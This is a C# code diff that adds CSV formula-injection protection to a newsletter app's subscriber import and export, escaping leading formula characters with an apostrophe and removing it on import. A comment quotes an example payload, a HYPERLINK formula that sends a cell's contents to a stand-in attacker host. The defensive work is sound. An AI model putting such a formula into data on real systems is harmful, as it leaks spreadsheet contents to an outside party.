@@ -10,7 +10,8 @@ namespace Syndicate.Subscribers;
 /// the email column in any common way (email, Email Address, e-mail) and optionally a name (name,
 /// or First Name and Last Name). A bad line is reported with its number and skipped; an address
 /// that unsubscribed earlier is never imported again, and a line whose status column says unsubscribed (our
-/// export) or blocklisted (listmonk) is kept as a suppression, not added.
+/// export) or blocklisted (listmonk) is kept as a suppression, not added. A field that a spreadsheet would run as a
+/// formula is exported with an apostrophe in front, and the import takes that apostrophe off again.
 /// </summary>
 internal sealed class SubscriberCsv(SubscriberStore store, TimeProvider time, ILogger<SubscriberCsv> logger)
 {
@@ -22,6 +23,13 @@ internal sealed class SubscriberCsv(SubscriberStore store, TimeProvider time, IL
 
     // A status column that says the address left (Syndicate's export: unsubscribed; listmonk: blocklisted) keeps it a suppression.
     private static readonly string[] LeftStatuses = ["unsubscribed", "blocklisted"];
+
+    // A spreadsheet opening a CSV file runs a cell that starts with one of these as a formula (or a DDE command): a name such as
+    // =HYPERLINK("http://evil.example/?x="&A2,"Click") typed into the subscribe form would be live in the operator's spreadsheet.
+    private static readonly char[] FormulaStarts = ['=', '+', '-', '@', '\t', '\r'];
+
+    // Spreadsheets show a cell that starts with an apostrophe as the text after it.
+    private const char FormulaEscape = '\'';
 
     public async Task<ImportReport> ImportAsync(TextReader reader, string sourceName, bool confirmed, IProgress<int>? progress,
         CancellationToken cancellationToken)
@@ -64,7 +72,7 @@ internal sealed class SubscriberCsv(SubscriberStore store, TimeProvider time, IL
             {
                 cancellationToken.ThrowIfCancellationRequested();
                 var line = csv.Parser.RawRow;
-                var email = csv.GetField(emailColumn);
+                var email = Unescape(csv.GetField(emailColumn));
                 if (string.IsNullOrWhiteSpace(email) && csv.Parser.Record?.All(string.IsNullOrWhiteSpace) == true)
                 {
                     continue;
@@ -77,8 +85,8 @@ internal sealed class SubscriberCsv(SubscriberStore store, TimeProvider time, IL
                 }
 
                 var name = nameColumn >= 0
-                    ? csv.GetField(nameColumn)
-                    : string.Join(' ', new[] { firstColumn, lastColumn }.Where(c => c >= 0).Select(c => csv.GetField(c)).Where(s => !string.IsNullOrWhiteSpace(s)));
+                    ? Unescape(csv.GetField(nameColumn))
+                    : string.Join(' ', new[] { firstColumn, lastColumn }.Where(c => c >= 0).Select(c => Unescape(csv.GetField(c))).Where(s => !string.IsNullOrWhiteSpace(s)));
                 if (!seen.Add(EmailAddressRule.Key(address)))
                 {
                     report.Known++;
@@ -133,7 +141,14 @@ internal sealed class SubscriberCsv(SubscriberStore store, TimeProvider time, IL
     public async Task<int> ExportAsync(TextWriter writer, CancellationToken cancellationToken)
     {
         var subscribers = await store.ListAsync(null, cancellationToken);
-        await using var csv = new CsvWriter(writer, CultureInfo.InvariantCulture, leaveOpen: true);
+        var configuration = new CsvConfiguration(CultureInfo.InvariantCulture)
+        {
+            // A field that starts with a formula character is written with the apostrophe in front (and quoted).
+            InjectionOptions = InjectionOptions.Escape,
+            InjectionCharacters = FormulaStarts,
+            InjectionEscapeCharacter = FormulaEscape,
+        };
+        await using var csv = new CsvWriter(writer, configuration, leaveOpen: true);
         foreach (var heading in (string[])["email", "name", "status", "created_at", "confirmed_at", "unsubscribed_at"])
         {
             csv.WriteField(heading);
@@ -142,8 +157,8 @@ internal sealed class SubscriberCsv(SubscriberStore store, TimeProvider time, IL
         await csv.NextRecordAsync();
         foreach (var subscriber in subscribers)
         {
-            csv.WriteField(subscriber.Email);
-            csv.WriteField(subscriber.Name);
+            csv.WriteField(EscapeApostrophes(subscriber.Email));
+            csv.WriteField(EscapeApostrophes(subscriber.Name));
             csv.WriteField(SubscriberStore.StatusText(subscriber.Status));
             csv.WriteField(Iso(subscriber.CreatedAt));
             csv.WriteField(Iso(subscriber.ConfirmedAt));
@@ -153,6 +168,26 @@ internal sealed class SubscriberCsv(SubscriberStore store, TimeProvider time, IL
 
         await csv.FlushAsync();
         return subscribers.Count;
+    }
+
+    /// <summary>
+    /// A value that already looks escaped (apostrophes, then a formula character) gets one more apostrophe on export, so
+    /// that the import, which takes one off, gives it back unchanged: '=x is exported as ''=x.
+    /// </summary>
+    private static string EscapeApostrophes(string value) => LooksEscaped(value) ? FormulaEscape + value : value;
+
+    /// <summary>Takes off the apostrophe the export puts before a formula character (or before an apostrophe it doubled).</summary>
+    private static string? Unescape(string? value) => value is not null && LooksEscaped(value) ? value[1..] : value;
+
+    private static bool LooksEscaped(string value)
+    {
+        var i = 0;
+        while (i < value.Length && value[i] == FormulaEscape)
+        {
+            i++;
+        }
+
+        return i > 0 && i < value.Length && FormulaStarts.Contains(value[i]);
     }
 
     private static async Task<bool> IsUnsubscribedAsync(System.Data.Common.DbConnection connection, System.Data.Common.DbTransaction transaction, string address)
